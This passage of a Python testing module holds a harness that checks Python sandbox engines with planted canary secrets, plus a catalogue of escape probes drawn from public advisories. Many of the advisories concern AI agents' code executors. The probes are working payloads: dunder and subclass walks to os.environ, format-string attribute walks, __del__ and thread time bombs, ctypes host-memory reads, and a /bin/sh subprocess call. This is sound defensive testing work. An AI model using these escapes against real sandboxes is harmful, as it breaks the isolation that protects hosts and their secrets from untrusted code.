"""Sandbox-escape probes drawn from public advisories, and the harness that judges them against any engine.

Every probe is a short snippet that tries one known way out of a Python "sandbox": dunder walks from
literals and functions, ``str.format`` attribute walks, ``__del__`` time bombs, module-attribute walks to
``os``/``sys``, ``ctypes``, ``importlib``, ``open``, ``globals``, ``__import__``, frames via tracebacks and
generators, ``eval``/``compile``, ``gc``, ``pickle``, signals and subprocesses, and resource bombs
(memory, big integers, recursion, output floods). :data:`PROBES` lists them; :func:`check_probe` runs
one through an engine and judges it; :func:`run_probes` checks the runner first, then runs them all.

Judging never trusts the engine. Before each probe a :class:`~toolcode.testing._canary.CanaryTrap`
plants fresh random secrets in the host (environment, a file, host memory) plus a witness path that
must not be created and a port that must not be connected to. The probe only gets paths and the port.
The probe ESCAPED if a secret shows up in its value, stdout or error text, if anything was created or
changed in the host, if the host's event loop stalled, if the run did not end before the deadline, or
if the runner reports that the host process died. Otherwise it is CONTAINED. Resource bombs must in
addition be stopped by a limit (end with an error) or, for output floods, keep stdout bounded.

Nothing here depends on how busy the machine is. The deadline only bounds a run that never ends, so it
is generous (a minute). A stall is measured in the host process's CPU time: the event loop went
without a tick while the host computed, which a busy machine does not fake (it only delays the tick).

A runner that loses values, stdout or errors would let every probe pass vacuously, so
:func:`verify_runner` proves the runner surfaces all three before any probe is judged.
"""

from __future__ import annotations

import gc
import secrets
import textwrap
import time
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass
from enum import StrEnum
from typing import Final, NamedTuple, cast

import anyio

from toolcode.testing._canary import Canaries, CanaryTrap, render_text

__all__ = [
    "PROBES",
    "Category",
    "EscapeProbe",
    "HostCrashedError",
    "Judge",
    "ProbeHarnessError",
    "ProbeOutcome",
    "ProbeRun",
    "ProbeRunner",
    "check_probe",
    "run_probes",
    "verify_runner",
]

DEFAULT_DEADLINE_S: Final = 60.0
"""Seconds a run may take, host side, before the probe counts as escaped (the engine's limits did not stop it).

It bounds a run that never ends, not a slow one: an engine's limits stop a bomb in seconds, and a
loaded machine may stretch that several times over.
"""
DEFAULT_STALL_LIMIT_S: Final = 2.0
"""Most CPU time the host process may use while its event loop goes without a tick (more: the host is blocked)."""
DEFAULT_MAX_STDOUT_CHARS: Final = 1_000_000
"""Most stdout an output-flood probe may produce before its output counts as unbounded."""
_SHOWN_CHARS: Final = 600


class ProbeRun(NamedTuple):
    """What a runner returns for one snippet; a plain ``(value, stdout, error)`` tuple does as well."""

    value: object
    """The snippet's result (its ``__out`` or trailing expression), ``None`` when it failed."""
    stdout: str
    """Everything the snippet printed."""
    error: str | None
    """The error text when the run failed (any error: syntax, runtime, limit), else ``None``."""


ProbeRunner = Callable[[str], Awaitable[ProbeRun | tuple[object, str, str | None]]]
"""Runs one snippet in the engine under test and returns ``(value, stdout, error)``.

Contract: the runner applies the engine's limits (a timeout of a few seconds, a memory limit) and
returns when the run ends, however it ends: a failure of the snippet, including a limit, is reported
as error text, not raised. An exception raised by the runner still ends the run and its text is judged
like an error. When the runner itself has a separate host process that died (the process the snippet
must not affect), it raises :class:`HostCrashedError`. It must honour cancellation. The value must be
the snippet's result as plain data; the snippet ends with a trailing expression and never assigns
``__out``, so both result conventions give the same value.
"""


class Category(StrEnum):
    """The family of escape a probe belongs to."""

    DUNDER_WALK = "dunder-walk"
    FORMAT_STRING = "format-string"
    DEL_TIMEBOMB = "del-timebomb"
    MODULE_WALK = "module-walk"
    CTYPES = "ctypes"
    IMPORTLIB = "importlib"
    OPEN_IO = "open/io"
    GLOBALS_BUILTINS = "globals/builtins"
    DUNDER_IMPORT = "__import__"
    FRAMES = "frames/tracebacks"
    EVAL_COMPILE = "eval/compile"
    GC_WEAKREF = "gc/weakref"
    PICKLE_MARSHAL = "pickle/marshal"
    OS_PROCESS = "signal/os/subprocess"
    NETWORK = "network"
    HOST_CRASH = "host-crash"
    RESOURCE = "resource-bomb"


class Judge(StrEnum):
    """What, beyond the canaries, a probe must satisfy to count as contained."""

    LEAK = "leak"
    """Contained when no canary was reached, the host stayed responsive and the run ended before the deadline."""
    STOPPED = "stopped"
    """A resource bomb: as LEAK, and the run must end with an error (a limit stopped it)."""
    BOUNDED_OUTPUT = "bounded-output"
    """An output flood: as LEAK, and stdout must stay within the stdout bound."""


@dataclass(frozen=True, slots=True)
class EscapeProbe:
    """One escape attempt: a snippet, where it comes from, and how to judge it.

    The snippet refers to the canaries through placeholder tokens, replaced by :meth:`render`:
    ``__CANARY_PATH__`` (a file holding a secret), ``__WITNESS_PATH__`` (a path to create),
    ``__CANARY_PORT__`` (a port on 127.0.0.1); the environment variable is ``TOOLCODE_CANARY`` and the
    host-memory secret is ``toolcode.testing._canary.HOST_MEMORY_SECRET``. It ends with a trailing
    expression, its result.
    """

    id: str
    """Stable slug, unique among :data:`PROBES`."""
    category: Category
    """The family of escape."""
    title: str
    """What the snippet does, in one line."""
    source: str
    """The public advisory, write-up or project the technique is drawn from."""
    code: str
    """The snippet, with placeholder tokens."""
    judge: Judge = Judge.LEAK
    """How to judge the run beyond the canaries."""
    escapes_plain_exec: bool = True
    """Whether the probe escapes CPython's plain ``exec`` in a subprocess (checked by the project's own tests)."""
    settle_s: float = 0.0
    """Seconds to wait after the run before inspecting the canaries, for time bombs that fire late."""

    def render(self, canaries: Canaries) -> str:
        """The snippet with the placeholders replaced by the planted canaries' paths and port.

        Args:
            canaries: The planted canaries.

        Returns:
            Runnable Python source.
        """
        code = self.code
        for token, literal in canaries.substitutions().items():
            code = code.replace(token, literal)
        return code


@dataclass(frozen=True, slots=True)
class ProbeOutcome:
    """The judged result of one probe against one engine."""

    probe: EscapeProbe
    """The probe that ran."""
    escaped: bool
    """True when the probe got out (or the engine failed to stop it); a security bug in a sandbox."""
    evidence: tuple[str, ...]
    """Why it counts as escaped, one finding each; empty when contained."""
    duration_s: float
    """Wall time of the run, host side."""
    value: str = ""
    """The run's value as text, shortened."""
    stdout: str = ""
    """The run's stdout, shortened."""
    error: str = ""
    """The run's error text, shortened."""

    @property
    def contained(self) -> bool:
        """True when the probe did not get out."""
        return not self.escaped

    def __str__(self) -> str:
        verdict = "ESCAPED" if self.escaped else "CONTAINED"
        lines = [f"{self.probe.id} [{self.probe.category}]: {verdict} in {self.duration_s:.2f}s"]
        lines.extend(f"  - {finding}" for finding in self.evidence)
        for name in ("value", "stdout", "error"):
            text: str = getattr(self, name)
            if text:
                lines.append(f"  {name}: {text!r}")
        return "\n".join(lines)


class HostCrashedError(Exception):
    """Raised by a runner whose separate host process died while running a snippet."""


class ProbeHarnessError(Exception):
    """The runner cannot be judged: it does not surface values, stdout or errors faithfully."""


def _shorten(text: str) -> str:
    return text if len(text) <= _SHOWN_CHARS else text[:_SHOWN_CHARS] + f"... [{len(text)} chars]"


def _unpack(result: object) -> tuple[object, str, str | None]:
    # Checked outside the run's error handling, so that a broken runner fails loudly instead of looking contained.
    items = cast("tuple[object, ...]", result) if isinstance(result, tuple) else None
    if items is None or len(items) != 3:
        kind = type(cast(object, result)).__name__
        raise ProbeHarnessError(f"a runner must return (value, stdout, error), got {kind}")
    value, stdout, error = items
    if not isinstance(stdout, str) or not (error is None or isinstance(error, str)):
        raise ProbeHarnessError("a runner must return stdout as str and error as str or None")
    return value, stdout, error


class _Heartbeat:
    """Ticks on the host's event loop and records its gaps, to notice a run that blocks the host.

    Each gap is measured twice: in wall time, and in the CPU time the host process used meanwhile. A
    loaded machine stretches the first (the loop waits for a core) but not the second, so a stall is
    judged by CPU time; a wall-time gap counts only beyond the run's deadline (a loop blocked waiting).
    """

    def __init__(self) -> None:
        self.last = time.monotonic()
        self.last_cpu = time.process_time()
        self.longest = 0.0
        self.busiest = 0.0

    def mark(self) -> None:
        now, cpu = time.monotonic(), time.process_time()
        self.longest = max(self.longest, now - self.last)
        self.busiest = max(self.busiest, cpu - self.last_cpu)
        self.last, self.last_cpu = now, cpu

    async def run(self) -> None:
        while True:
            await anyio.sleep(0.05)
            self.mark()


async def check_probe(
    run: ProbeRunner,
    probe: EscapeProbe,
    *,
    deadline_s: float = DEFAULT_DEADLINE_S,
    stall_limit_s: float = DEFAULT_STALL_LIMIT_S,
    max_stdout_chars: int = DEFAULT_MAX_STDOUT_CHARS,
) -> ProbeOutcome:
    """Plant fresh canaries, run one probe through ``run`` and judge whether it escaped.

    Probes must run one at a time in a process: the canaries include a process-wide environment
    variable. If the probe kills the host process, this never returns; the caller's process dying is
    then the (loud) verdict.

    Args:
        run: Runs a snippet in the engine under test (see :data:`ProbeRunner`).
        probe: The probe to run.
        deadline_s: Host-side wall-time limit for the run; later counts as escaped. It bounds a run the
            engine never stops: set it well above the engine's own timeout plus its grace, with room for
            a loaded machine.
        stall_limit_s: Most CPU time the host process may use in one gap of the event loop's heartbeat.
        max_stdout_chars: Stdout bound for :attr:`Judge.BOUNDED_OUTPUT` probes.

    Returns:
        The outcome, escaped or contained, with its evidence.

    Raises:
        ValueError: A limit argument is not positive.
        ProbeHarnessError: The runner returned something other than ``(value, stdout, error)``.
        RuntimeError: Another probe is being checked in this process at the same time.
    """
    if deadline_s <= 0 or stall_limit_s <= 0 or max_stdout_chars <= 0:
        raise ValueError("deadline_s, stall_limit_s and max_stdout_chars must be positive")
    trap = CanaryTrap()
    with trap as canaries:
        code = probe.render(canaries)
        evidence: list[str] = []
        value_text, stdout, error = "", "", ""
        returned = False
        result: object = None
        crashed: str | None = None
        heartbeat = _Heartbeat()
        scope = anyio.move_on_after(deadline_s)
        started = time.monotonic()
        duration = 0.0
        async with anyio.create_task_group() as tg:
            tg.start_soon(heartbeat.run)
            with scope:
                try:
                    result = await run(code)
                    returned = True
                except HostCrashedError as exc:
                    crashed = str(exc) or "host process died"
                except SystemExit as exc:
                    # Left unhandled, this would have ended the host process.
                    crashed = f"the run raised SystemExit({exc.code!r}) into the host"
                # Whatever the runner raises ends the run; its text is judged like an error text, so
                # a secret smuggled into an exception message is still found.
                except Exception as exc:
                    error = f"{type(exc).__name__}: {exc}"
            heartbeat.mark()
            duration = time.monotonic() - started
            tg.cancel_scope.cancel()
        if returned:
            value, raw_stdout, raw_error = _unpack(result)
            value_text, stdout, error = render_text(value), raw_stdout, raw_error or ""
        if probe.settle_s:
            await anyio.sleep(probe.settle_s)
        # A __del__ or weakref time bomb left behind by an in-process engine fires on collection.
        gc.collect()
        evidence.extend(trap.evidence({"value": value_text, "stdout": stdout, "error": error}))
        if crashed is not None:
            evidence.append(f"host process died: {crashed}")
        # A runner that holds the event loop cannot be cancelled, so a late return counts as well.
        if scope.cancelled_caught or duration > deadline_s:
            evidence.append(f"run did not end within the {deadline_s:g}s deadline")
        if heartbeat.busiest > stall_limit_s:
            evidence.append(
                f"host event loop blocked while the host computed for {heartbeat.busiest:.2f}s of CPU time"
                f" (limit {stall_limit_s:g}s)"
            )
        if heartbeat.longest > deadline_s:
            evidence.append(f"host event loop blocked for {heartbeat.longest:.2f}s, past the {deadline_s:g}s deadline")
        finished = returned or bool(error)
        if probe.judge is Judge.STOPPED and finished and not error:
            evidence.append("resource bomb completed without being stopped by a limit")
        if probe.judge is Judge.BOUNDED_OUTPUT and len(stdout) > max_stdout_chars:
            evidence.append(f"stdout not bounded: {len(stdout)} chars > {max_stdout_chars}")
    return ProbeOutcome(
        probe=probe,
        escaped=bool(evidence),
        evidence=tuple(evidence),
        duration_s=duration,
        value=_shorten(value_text.strip()),
        stdout=_shorten(stdout),
        error=_shorten(error),
    )


async def verify_runner(run: ProbeRunner, *, deadline_s: float = DEFAULT_DEADLINE_S) -> None:
    """Prove that ``run`` surfaces a snippet's value, stdout and error text, so that no probe passes vacuously.

    Args:
        run: The runner to check.
        deadline_s: Wall-time limit for each control run (a bound for a run that never ends).

    Raises:
        ProbeHarnessError: The runner lost the value, the stdout or the error text of a control snippet.
    """
    value_token, stdout_token, error_token = (f"tcontrol-{secrets.token_hex(8)}" for _ in range(3))
    with anyio.fail_after(deadline_s):
        value, stdout, error = _unpack(await run(f"print({stdout_token!r})\n{value_token!r}"))
    if value_token not in render_text(value):
        raise ProbeHarnessError(f"runner lost the trailing expression's value: got {value!r}")
    if stdout_token not in stdout:
        raise ProbeHarnessError(f"runner lost the snippet's stdout: got {stdout!r}")
    if error:
        raise ProbeHarnessError(f"runner reported an error for a snippet that succeeds: {error!r}")
    with anyio.fail_after(deadline_s):
        value, stdout, error = _unpack(await run(f"raise ValueError({error_token!r})"))
    if error_token not in (error or ""):
        raise ProbeHarnessError(f"runner lost the snippet's error text: got {error!r}")


async def run_probes(
    run: ProbeRunner,
    probes: Iterable[EscapeProbe] | None = None,
    *,
    deadline_s: float = DEFAULT_DEADLINE_S,
    stall_limit_s: float = DEFAULT_STALL_LIMIT_S,
    max_stdout_chars: int = DEFAULT_MAX_STDOUT_CHARS,
) -> list[ProbeOutcome]:
    """Verify the runner, then run every probe one after the other and judge each.

    Args:
        run: Runs a snippet in the engine under test (see :data:`ProbeRunner`).
        probes: The probes to run; all of :data:`PROBES` by default.
        deadline_s: Host-side wall-time limit per run (a bound for a run that never ends).
        stall_limit_s: Most CPU time the host process may use in one gap of the event loop's heartbeat.
        max_stdout_chars: Stdout bound for output-flood probes.

    Returns:
        One outcome per probe, in order.

    Raises:
        ProbeHarnessError: The runner does not surface values, stdout or errors faithfully.
    """
    await verify_runner(run, deadline_s=deadline_s)
    return [
        await check_probe(
            run, probe, deadline_s=deadline_s, stall_limit_s=stall_limit_s, max_stdout_chars=max_stdout_chars
        )
        for probe in (PROBES if probes is None else probes)
    ]


def _probe(
    id: str,
    category: Category,
    title: str,
    source: str,
    code: str,
    *,
    judge: Judge = Judge.LEAK,
    escapes_plain_exec: bool = True,
    settle_s: float = 0.0,
) -> EscapeProbe:
    return EscapeProbe(
        id=id,
        category=category,
        title=title,
        source=source,
        code=textwrap.dedent(code).strip() + "\n",
        judge=judge,
        escapes_plain_exec=escapes_plain_exec,
        settle_s=settle_s,
    )


_C = Category
_PYJAIL = "CTF pyjail write-ups (ctf-wiki 'Python sandbox escape'; HackTricks 'Bypass Python sandboxes')"
_JINJA_SSTI = "Jinja2 sandbox SSTI payloads (PayloadsAllTheThings 'Server Side Template Injection - Jinja2')"

PROBES: Final[tuple[EscapeProbe, ...]] = (
    # --- dunder walks from literals and functions -------------------------------------------------------------
    _probe(
        "dunder-subclasses-wrap-close",
        _C.DUNDER_WALK,
        "().__class__.__base__.__subclasses__() to os._wrap_close, then its __init__.__globals__['environ']",
        "mcp-use code-mode exec() bypass (mcp-use issue #1718): subclass walk from a tuple literal",
        """
        wc = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
        wc.__init__.__globals__["environ"]["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "dunder-mro-catch-warnings",
        _C.DUNDER_WALK,
        "''.__class__.__mro__[1].__subclasses__() to warnings.catch_warnings, then _module.__builtins__",
        _JINJA_SSTI,
        """
        cw = [c for c in "".__class__.__mro__[1].__subclasses__() if c.__name__ == "catch_warnings"][0]
        b = cw()._module.__builtins__
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        imp("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "dunder-subclasses-popen",
        _C.DUNDER_WALK,
        "object.__subclasses__() to subprocess.Popen, then a shell that prints the host environment secret",
        "smolagents LocalPythonExecutor class-hierarchy traversal to subprocess.Popen (CVE-2025-9959)",
        """
        popen = [c for c in (1).__class__.__mro__[-1].__subclasses__() if c.__name__ == "Popen"][0]
        p = popen(["/bin/sh", "-c", "echo $TOOLCODE_CANARY"], stdout=-1)
        p.communicate()[0].decode()
        """,
    ),
    _probe(
        "dunder-function-globals",
        _C.DUNDER_WALK,
        "a snippet function's __globals__['__builtins__'] to __import__",
        "smolagents LocalPythonExecutor escapes through function globals and getattr leakage (CVE-2025-5120)",
        """
        def f():
            return 1
        b = f.__globals__["__builtins__"]
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        imp("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "dunder-lambda-builtins",
        _C.DUNDER_WALK,
        "(lambda: 0).__builtins__ (CPython 3.10+) to __import__",
        _PYJAIL,
        """
        b = (lambda: 0).__builtins__
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        imp("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "dunder-type-dict-chr",
        _C.DUNDER_WALK,
        "type.__dict__ with chr()-built names to __subclasses__, then BuiltinImporter.load_module('posix')",
        "crewAI CodeInterpreterTool review (crewAI PR #4643): type.__dict__ + chr() defeats a dunder blocklist",
        """
        name = "".join(chr(c) for c in [95, 95, 115, 117, 98, 99, 108, 97, 115, 115, 101, 115, 95, 95])
        subs = type.__dict__[name](object)
        bi = [c for c in subs if c.__name__ == "BuiltinImporter"][0]
        bi.load_module("posix").environ[b"TOOLCODE_CANARY"].decode()
        """,
    ),
    _probe(
        "dunder-reduce-ex-globals",
        _C.DUNDER_WALK,
        "[].__reduce_ex__(2)[0] is copyreg.__newobj__; its __globals__ reach __builtins__",
        _PYJAIL,
        """
        g = [].__reduce_ex__(2)[0].__globals__
        g["__builtins__"]["__import__"]("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "dunder-builtin-self",
        _C.DUNDER_WALK,
        "len.__self__ is the builtins module: its open() reads the canary file",
        _PYJAIL,
        """
        len.__self__.open(__CANARY_PATH__).read()
        """,
    ),
    _probe(
        "dunder-exception-obj",
        _C.DUNDER_WALK,
        "AttributeError.obj hands back the object a failed lookup was made on: the builtins module via len",
        "RestrictedPython information leakage via AttributeError.obj (CVE-2024-47532)",
        """
        try:
            len.__self__.no_such_attribute
        except AttributeError as e:
            leaked = e.obj
        leaked.__import__("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    # --- str.format attribute walks ---------------------------------------------------------------------------
    _probe(
        "format-attribute-walk",
        _C.FORMAT_STRING,
        "'{0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ[...]}'.format(len)",
        "RestrictedPython str.format attribute walk (CVE-2023-41039); Jinja2 sandbox str.format (CVE-2016-10745)",
        """
        "{0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ[TOOLCODE_CANARY]}".format(len)
        """,
    ),
    _probe(
        "format-map-walk",
        _C.FORMAT_STRING,
        "str.format_map with a field path from a snippet function to the builtins' loader",
        "Jinja2 sandbox escape via str.format_map (CVE-2019-10906); RestrictedPython PR #258 (format_map)",
        """
        def f():
            return 0
        loader = "[__loader__]" if isinstance(f.__globals__["__builtins__"], dict) else ".__loader__"
        tail = ".load_module.__globals__[sys].modules[os].environ[TOOLCODE_CANARY]}"
        ("{f.__globals__[__builtins__]" + loader + tail).format_map({"f": f})
        """,
    ),
    _probe(
        "format-unbound-descriptor",
        _C.FORMAT_STRING,
        "str.format called unbound (the method descriptor) with the attribute-walk field path",
        "Jinja2 sandbox: indirect call to str.format (CVE-2024-56326; pallets/jinja PR #2205)",
        """
        fmt = str.format
        fmt("{0.__self__.__spec__.loader.load_module.__globals__[sys].modules[os].environ[TOOLCODE_CANARY]}", len)
        """,
    ),
    _probe(
        "format-string-formatter",
        _C.FORMAT_STRING,
        "string.Formatter().get_field returns the object at the end of a dunder field path",
        "RestrictedPython information leakage via the string module's Formatter (CVE-2024-47532)",
        """
        import string
        obj = string.Formatter().get_field(
            "0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ", (abs,), {}
        )[0]
        obj["TOOLCODE_CANARY"]
        """,
    ),
    # --- __del__ and other time bombs -------------------------------------------------------------------------
    _probe(
        "del-timebomb-cycle",
        _C.DEL_TIMEBOMB,
        "an object in a reference cycle whose __del__ creates the witness when the host collects it",
        "smolagents issue #2395: object lifecycle hijacking via __del__ in LocalPythonExecutor",
        """
        class Bomb:
            def __del__(self):
                open(__WITNESS_PATH__, "w").write("boom")
        b = Bomb()
        b.self = b
        b = None
        "planted"
        """,
        settle_s=0.2,
    ),
    _probe(
        "del-timebomb-escaping-global",
        _C.DEL_TIMEBOMB,
        "a __del__ bomb left in the snippet's globals, fired when the host drops the namespace",
        "smolagents issue #2395: __del__ time bombs outlive the executor's timeout and operation limits",
        """
        class Bomb:
            def __del__(self):
                import os
                fd = os.open(__WITNESS_PATH__, os.O_CREAT | os.O_WRONLY)
                os.close(fd)
        keep = [Bomb()]
        "planted"
        """,
        settle_s=0.2,
    ),
    _probe(
        "timebomb-atexit",
        _C.DEL_TIMEBOMB,
        "atexit.register a callback that creates the witness when the host exits (seen when the host is a child "
        "process that exits before judging)",
        _PYJAIL,
        """
        import atexit
        atexit.register(lambda: open(__WITNESS_PATH__, "w").write("boom"))
        "planted"
        """,
        settle_s=0.2,
    ),
    _probe(
        "timebomb-thread",
        _C.DEL_TIMEBOMB,
        "threading.Timer fires after the run has returned and creates the witness",
        "smolagents issue #2395 (code that runs after the executor's window); Python threading docs",
        """
        import threading
        threading.Timer(0.05, lambda: open(__WITNESS_PATH__, "w").write("boom")).start()
        "planted"
        """,
        settle_s=0.5,
    ),
    _probe(
        "timebomb-audit-hook",
        _C.DEL_TIMEBOMB,
        "sys.addaudithook installs a hook the host can never remove; it creates the witness on the next event",
        "PEP 578 (audit hooks are not a sandbox: any code in the process can add one)",
        """
        import sys
        fired = []
        def hook(event, args):
            if event == "open" and not fired:
                fired.append(event)
                f = open(__WITNESS_PATH__, "w")
                f.write("boom")
                f.close()
        sys.addaudithook(hook)
        open(__CANARY_PATH__).close()
        "planted"
        """,
    ),
    # --- module-attribute walks to os / sys -------------------------------------------------------------------
    _probe(
        "module-walk-sys-modules",
        _C.MODULE_WALK,
        "import sys; sys.modules['os'].environ",
        "mcp-use code-mode exec() bypass (mcp-use issue #1718)",
        """
        import sys
        sys.modules["os"].environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "module-walk-json-codecs",
        _C.MODULE_WALK,
        "json.codecs.sys.modules['os'] (an allowed module's own imports)",
        "smolagents LocalPythonExecutor escapes through attributes of authorised modules (CVE-2025-5120)",
        """
        import json
        json.codecs.sys.modules["os"].environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "module-walk-random-os",
        _C.MODULE_WALK,
        "random._os.environ (random imports os as _os)",
        "smolagents LocalPythonExecutor escapes through attributes of authorised modules (CVE-2025-5120)",
        """
        import random
        random._os.environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "module-walk-typing-sys",
        _C.MODULE_WALK,
        "typing.sys.modules['os']",
        _PYJAIL,
        """
        import typing
        typing.sys.modules["os"].environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "module-walk-asyncio-events",
        _C.MODULE_WALK,
        "asyncio.events.os.environ (an allowed async module's own imports)",
        _PYJAIL,
        """
        import asyncio
        asyncio.events.os.environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "module-walk-re-enum",
        _C.MODULE_WALK,
        "re.enum.sys.modules['os'] (two hops through allowed modules' imports)",
        _PYJAIL,
        """
        import re
        re.enum.sys.modules["os"].environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "module-walk-loader",
        _C.MODULE_WALK,
        "time.__loader__ is BuiltinImporter: load_module('posix') returns the loaded posix module",
        _PYJAIL,
        """
        import time
        time.__loader__.load_module("posix").environ[b"TOOLCODE_CANARY"].decode()
        """,
    ),
    _probe(
        "module-walk-host-memory",
        _C.MODULE_WALK,
        "sys.modules to the host's own modules: reads the host-memory canary",
        "LlamaIndex PandasQueryEngine exec of generated code (CVE-2023-39662): host state reachable from the snippet",
        """
        import sys
        sys.modules["toolcode.testing._canary"].HOST_MEMORY_SECRET
        """,
    ),
    # --- ctypes -----------------------------------------------------------------------------------------------
    _probe(
        "ctypes-libc-getenv",
        _C.CTYPES,
        "ctypes.CDLL(None).getenv reads the host environment through libc",
        "smolagents issue #2094: sandbox escape via ctypes in LocalPythonExecutor",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        libc.getenv(b"TOOLCODE_CANARY").decode()
        """,
    ),
    _probe(
        "ctypes-pythonapi-run",
        _C.CTYPES,
        "ctypes.pythonapi.PyRun_SimpleString runs host Python that creates the witness",
        "smolagents issue #2094 (ctypes); DESIGN: ctypes escapes of in-process sandboxes",
        """
        import ctypes
        ctypes.pythonapi.PyRun_SimpleString(("open(%r, 'w').write('x')" % __WITNESS_PATH__).encode())
        """,
    ),
    _probe(
        "ctypes-string-at",
        _C.CTYPES,
        "ctypes.string_at reads raw host memory: the bytes of a host string found by address",
        _PYJAIL,
        """
        import ctypes, sys
        secret = sys.modules["toolcode.testing._canary"].HOST_MEMORY_SECRET
        ctypes.string_at(id(secret) + sys.getsizeof("") - 1, len(secret)).decode()
        """,
    ),
    # --- importlib --------------------------------------------------------------------------------------------
    _probe(
        "importlib-import-module",
        _C.IMPORTLIB,
        "importlib.import_module('os')",
        "LangChain PALChain __import__ filter bypass (CVE-2023-44467): any other import path reaches os",
        """
        import importlib
        importlib.import_module("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "importlib-loader-get-data",
        _C.IMPORTLIB,
        "importlib.machinery.SourceFileLoader(...).get_data reads the canary file",
        _PYJAIL,
        """
        import importlib.machinery
        importlib.machinery.SourceFileLoader("x", __CANARY_PATH__).get_data(__CANARY_PATH__).decode()
        """,
    ),
    _probe(
        "importlib-spec-exec",
        _C.IMPORTLIB,
        "importlib executes the canary file as a module: the traceback shows its secret line",
        _PYJAIL,
        """
        import importlib.util
        from importlib.machinery import SourceFileLoader
        spec = importlib.util.spec_from_loader("canary", SourceFileLoader("canary", __CANARY_PATH__))
        module = importlib.util.module_from_spec(spec)
        try:
            spec.loader.exec_module(module)
            leak = "loaded"
        except Exception:
            import traceback
            leak = traceback.format_exc()
        leak
        """,
    ),
    # --- open / io --------------------------------------------------------------------------------------------
    _probe(
        "open-read-canary",
        _C.OPEN_IO,
        "open(canary).read()",
        "mcp-use code-mode exec() (issue #1718); any exec()-based code mode",
        """
        open(__CANARY_PATH__).read()
        """,
    ),
    _probe(
        "open-write-witness",
        _C.OPEN_IO,
        "open(witness, 'w') creates a host file",
        "mcp-use code-mode exec() (issue #1718); any exec()-based code mode",
        """
        with open(__WITNESS_PATH__, "w") as f:
            f.write("escaped")
        "written"
        """,
    ),
    _probe(
        "open-proc-self",
        _C.OPEN_IO,
        "/proc/self/environ (the host's start-up environment) and /proc/self/root/<path> (defeats path-prefix filters)",
        _PYJAIL,
        """
        environ = open("/proc/self/environ", "rb").read().decode("latin-1")
        environ + open("/proc/self/root" + __CANARY_PATH__).read()
        """,
    ),
    _probe(
        "io-fileio",
        _C.OPEN_IO,
        "io.FileIO reads the canary file (open() removed but io left)",
        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (io is a file-access module)",
        """
        import io
        io.FileIO(__CANARY_PATH__).read().decode()
        """,
    ),
    _probe(
        "pathlib-read-text",
        _C.OPEN_IO,
        "pathlib.Path(canary).read_text()",
        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (pathlib is a file-access module)",
        """
        import pathlib
        pathlib.Path(__CANARY_PATH__).read_text()
        """,
    ),
    _probe(
        "pathlib-write-witness",
        _C.OPEN_IO,
        "pathlib.Path(witness).write_text() creates a host file",
        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (pathlib is a file-access module)",
        """
        import pathlib
        pathlib.Path(__WITNESS_PATH__).write_text("escaped")
        """,
    ),
    _probe(
        "linecache-getline",
        _C.OPEN_IO,
        "linecache.getline reads a host file through an innocent-looking module",
        _PYJAIL,
        """
        import linecache
        linecache.getline(__CANARY_PATH__, 1)
        """,
    ),
    _probe(
        "shutil-copy-witness",
        _C.OPEN_IO,
        "shutil.copyfile(canary, witness) copies a host file to a new path",
        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (shutil)",
        """
        import shutil
        shutil.copyfile(__CANARY_PATH__, __WITNESS_PATH__)
        """,
    ),
    # --- globals / builtins / __import__ ----------------------------------------------------------------------
    _probe(
        "globals-builtins-import",
        _C.GLOBALS_BUILTINS,
        "globals()['__builtins__'] to __import__",
        "mcp-use code-mode exec() bypass (issue #1718): __builtins__ reconstruction",
        """
        b = globals()["__builtins__"]
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        imp("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "builtins-name-concat",
        _C.GLOBALS_BUILTINS,
        "getattr(__builtins__, '__imp' + 'ort__') defeats a string blocklist",
        "LangChain PALChain (CVE-2023-36258, CVE-2023-44467): blocklist bypass by string building",
        """
        b = __builtins__
        name = "__imp" + "ort__"
        imp = b[name] if isinstance(b, dict) else getattr(b, name)
        imp("o" + "s").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "import-builtins-module",
        _C.GLOBALS_BUILTINS,
        "import builtins; builtins.open reads the canary file",
        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (builtins)",
        """
        import builtins
        builtins.open(__CANARY_PATH__).read()
        """,
    ),
    _probe(
        "dunder-import-os",
        _C.DUNDER_IMPORT,
        "__import__('os').environ",
        "LangChain PALChain arbitrary code execution (CVE-2023-36258)",
        """
        __import__("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "dunder-import-fromlist",
        _C.DUNDER_IMPORT,
        "__import__('os.path', fromlist=['x']) then the module's os attribute",
        _PYJAIL,
        """
        __import__("os.path", fromlist=["join"]).os.environ["TOOLCODE_CANARY"]
        """,
    ),
    # --- frames via tracebacks, generators, coroutines --------------------------------------------------------
    _probe(
        "frames-traceback-walk",
        _C.FRAMES,
        "e.__traceback__.tb_frame.f_back ... to the host's frames; their builtins import os",
        "RestrictedPython stack-frame sandbox escape (CVE-2023-37271)",
        """
        try:
            1 / 0
        except ZeroDivisionError as e:
